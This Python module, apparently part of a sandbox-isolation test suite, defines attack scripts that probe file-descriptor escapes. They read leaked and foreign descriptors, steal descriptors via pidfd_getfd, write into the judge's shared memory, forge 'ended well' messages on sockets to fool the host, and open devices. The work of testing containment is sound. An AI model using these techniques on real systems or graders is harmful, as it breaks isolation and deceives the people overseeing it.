"""Descriptors: those that were left open, those of others, those of devices; and messages forged on them."""

from infra_agent.sandbox.attacks.base import Arena, Attack, Outcome, script

KNOW = """
import ctypes, errno, json, os, resource, signal, subprocess, sys, time
scene = json.load(open("scene.json"))
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = os.uname().machine == "aarch64"
CAGED = os.getppid() in (0, 1)  # in a pid namespace, a child of its first process or of one outside; else both are the host's
VICTIM = scene["victim_pid"]
OURS = [1] if CAGED else []  # what may be changed: nothing of the host's but the victim
OURS += [VICTIM] if VICTIM not in (1, os.getpid()) else []
THEIRS = [] if CAGED else [os.getppid(), 1, scene["host_pid"]]  # what is only looked at

def raw(number, *arguments):
    # a system call by number: its result, and the name of the error
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    return result, errno.errorcode.get(ctypes.get_errno(), "no error") if result < 0 else "no error"

def in_child(work):
    # what `work` returns, run in a process of its own
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            said = str(work())
        except BaseException as error:
            said = f"HELD {error!r}"
        try:
            os.write(write, said.encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as file:
        said = file.read()
    os.waitpid(pid, 0)
    return said or "HELD the process died"

def verdict(escaped, held):
    print("ESCAPED " + "; ".join(escaped) if escaped else "HELD " + "; ".join(dict.fromkeys(map(str, held))), flush=True)

def memory_of(pid):
    # where a process has its first writable memory
    with open(f"/proc/{pid}/maps") as file:
        return int(next(line for line in file if " rw" in line).split("-")[0], 16)
"""

_OPEN = """
found = []
for number in range(3, 1024):
    try:
        os.fstat(number)
    except OSError:
        continue
    try:
        found.append(f"{number}: {os.readlink(f'/proc/self/fd/{number}')}")
    except OSError:
        found.append(f"{number}: what it is cannot be read")
verdict(found, ["nothing beyond 0, 1 and 2"])
"""

_STDIN = """
import stat
about = os.fstat(0)
null = stat.S_ISCHR(about.st_mode) and about.st_rdev == os.makedev(1, 3)
verdict([] if null else [f"standard input is {os.readlink('/proc/self/fd/0')}"], ["standard input is /dev/null"])
"""

_EVERY = """
import socket, stat, struct
forged = struct.pack("<4siiQQQQQ", b"DONE", 0, 0, 1, 1, 1, 0, 0)
replies = (forged, struct.pack("<4sIIq", b"RPLY", 1, 0, 1), b"F")
found, sockets = [], 0
for number in range(3, 1024):
    try:
        kind = os.fstat(number).st_mode
    except OSError:
        continue
    if not stat.S_ISSOCK(kind):
        continue
    sockets += 1
    end = socket.socket(fileno=os.dup(number))
    end.setblocking(False)
    for message in replies:
        try:
            end.send(message, socket.MSG_NOSIGNAL)
            found.append(f"sent a forged message on descriptor {number}")
        except OSError:
            pass
    try:
        data, descriptors, _, _ = socket.recv_fds(end, 4096, 8)
        found.append(f"received {len(data)} bytes and {len(descriptors)} descriptors on {number}")
    except OSError:
        pass
verdict(found, [f"{sockets} sockets to write to"])
sys.exit(3)  # a host that took the forged end for the true one says 'ok'
"""

_REOPEN = """
import stat
os.write(1, b"one line\\n")
found, why = [], []
for number, flags in ((0, os.O_WRONLY), (1, os.O_RDONLY), (2, os.O_RDONLY), (1, os.O_RDWR)):
    try:
        other = os.open(f"/proc/self/fd/{number}", flags | os.O_NONBLOCK)
    except OSError as error:
        why.append(f"{number}: {error.strerror}")
        continue
    if number == 0:
        if not stat.S_ISCHR(os.fstat(0).st_mode):
            found.append("standard input can be written")
        continue
    try:
        data = os.read(other, 1 << 20)
        os.write(1, data)  # its own text goes back to where it came from
    except OSError as error:
        data = b""
    foreign = data.replace(b"one line\\n", b"")
    if foreign:
        found.append(f"read {len(foreign)} bytes from descriptor {number} that it had not written")
    why.append(f"{number} opens the other way, with nothing of anybody else's in it")
verdict(found, why)
"""

_THEIRS = """
found, why = [], []
for pid in dict.fromkeys((1, os.getppid(), *THEIRS)):
    try:
        numbers = os.listdir(f"/proc/{pid}/fd")
    except OSError as error:
        why.append(f"process {pid}: {error.strerror}")
        continue
    names = []
    for number in numbers:
        try:
            names.append(f"{number} {os.readlink(f'/proc/{pid}/fd/{number}')}")
        except OSError as error:
            why.append(f"process {pid}, {number}: {error.strerror}")
    if names:
        found.append(f"process {pid} has {', '.join(names[:6])}")
    why.append(f"process {pid}: {len(numbers)} descriptors")
verdict(found, why)
"""

_INPUT = """
import fcntl, glob, stat
found, why = [], []
def change(path, shown):
    # the byte that is there already, through a descriptor of one's own: only a shared mapping of the judge's would change
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError as error:
        why.append(error.strerror)
        return
    try:
        seals = fcntl.fcntl(descriptor, 1034)
        if not seals & 2:
            found.append(f"{shown} could be cut to nothing under the judge")
        found.append(f"has a descriptor of {shown} by {path.split('/')[3]}, seals {seals:#x}")
        byte = os.pread(descriptor, 1, 0)
        if byte and os.pwrite(descriptor, byte, 0):
            found.append(f"wrote {shown}")
    except OSError as error:
        why.append(f"{shown}: {error.strerror}")
    finally:
        os.close(descriptor)
with open("/proc/self/maps") as file:
    for line in file:
        if "memfd:" in line or "/dev/zero (deleted)" in line:
            span = "-".join(f"{int(end, 16):x}" for end in line.split()[0].split("-"))
            change(f"/proc/self/map_files/{span}", line.split(None, 5)[5].strip())
# on a host there are cages of others too, which are none of this attack's business
for path in (path for pid in ("[0-9]*",) * CAGED or ("self", *map(str, THEIRS)) for path in glob.glob(f"/proc/{pid}/fd/*")):
    try:
        shown = os.readlink(path)
    except OSError:
        continue
    if "memfd:cage" in shown:
        change(path, shown)
verdict(found, why or ["no descriptor of a mapping is in sight"])
"""

_SEALED = """
import mmap
found, why, mapped = [], [], []
with open("/proc/self/maps") as file:
    mapped = [line.split() for line in file if "cage-in" in line]
for fields in mapped:
    start, end = (int(part, 16) for part in fields[0].split("-"))
    private = fields[1].endswith("p")
    again = libc.mremap
    again.restype = ctypes.c_void_p
    new = again(ctypes.c_void_p(start), ctypes.c_size_t(0), ctypes.c_size_t(4096), 1)  # of length 0: a second, shared view
    wrong = errno.errorcode.get(ctypes.get_errno(), "no error")
    if not private:
        found.append("the input is mapped shared")
    if new not in (None, ctypes.c_void_p(-1).value):
        with open("/proc/self/maps") as file:
            shown = [line.split()[1] for line in file if line.startswith(f"{new:x}-")]
        if shown and shown[0].endswith("s"):
            found.append(f"has a shared view of the input: {shown[0]}")
    why.append(f"a second view of the private mapping: {wrong}")
verdict(found, why or ["no input mapping is in sight"])
"""

_PIDFD = """
found, why = [], []
for pid in (*OURS, *THEIRS):
    handle, wrong = raw(434, pid, 0)
    why.append(f"process {pid}: {wrong}")
    if handle < 0:
        continue
    for number in range(64):
        stolen, wrong = raw(438, handle, number, 0)
        why[-1] = f"process {pid}: {wrong}"
        if stolen >= 0:
            found.append(f"descriptor {number} of process {pid}: {os.readlink(f'/proc/self/fd/{stolen}')}")
            os.close(stolen)
            break
    os.close(handle)
verdict(found, why)
"""

_MKNOD = """
import stat
found, why = [], []
for folder in (os.getcwd(), "/tmp", "/dev/shm", "/dev"):
    path = f"{folder}/device-{os.getpid()}"
    try:
        os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    except OSError as error:
        why.append(f"{folder}: {error.strerror}")
        continue
    try:
        os.close(os.open(path, os.O_RDWR))
        found.append(f"made and opened a device in {folder}")
    except OSError as error:
        why.append(f"made in {folder}, but: {error.strerror}")
    os.unlink(path)
verdict(found, why)
"""

_DEVICES = """
import stat
harmless = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2)}
found, names = [], 0
for folder, _, files in os.walk("/dev"):
    for path in (f"{folder}/{name}" for name in files if not folder.startswith("/dev/pts")):
        about = os.lstat(path)
        block, kind = stat.S_ISBLK(about.st_mode), (os.major(about.st_rdev), os.minor(about.st_rdev))
        if not block and (not stat.S_ISCHR(about.st_mode) or kind in harmless or 4 <= kind[0] <= 5):
            continue  # terminals are not opened: some wait for a carrier
        names += 1
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
            found.append(path)
        except OSError:
            pass
print(f"ESCAPED can open {', '.join(found[:12])}" if found else f"HELD {names} devices beyond the usual are in sight, none opens")
"""


def _forged(arena: Arena, outcome: Outcome) -> str | None:
    """The program ends with status 3; whoever was told otherwise believed a message of its."""
    return None if outcome.ended == "failed" else f"it ended with status 3 and the host believes: {outcome.ended}"


FAMILY: tuple[Attack, ...] = (
    script("left-open", "descriptors", "a descriptor of the host or the cage that was left open", KNOW + _OPEN),
    script("standard-input", "descriptors", "standard input of the host", KNOW + _STDIN),
    script("forged-end", "descriptors", "send 'it ended well' on every socket there is", KNOW + _EVERY, look=_forged),
    script("other-direction", "descriptors", "open standard output for reading", KNOW + _REOPEN),
    script("others", "descriptors", "descriptors of the parent and of pid 1", KNOW + _THEIRS),
    script("mapping", "descriptors", "find the judge's memory and change it", KNOW + _INPUT),
    script("second-view", "descriptors", "make the private input mapping a shared one", KNOW + _SEALED),
    script("pidfd-getfd", "descriptors", "take another process's descriptors", KNOW + _PIDFD),
    script("mknod", "descriptors", "make a device and open it", KNOW + _MKNOD),
    script("devices", "descriptors", "open disks, memory and other devices", KNOW + _DEVICES),
)
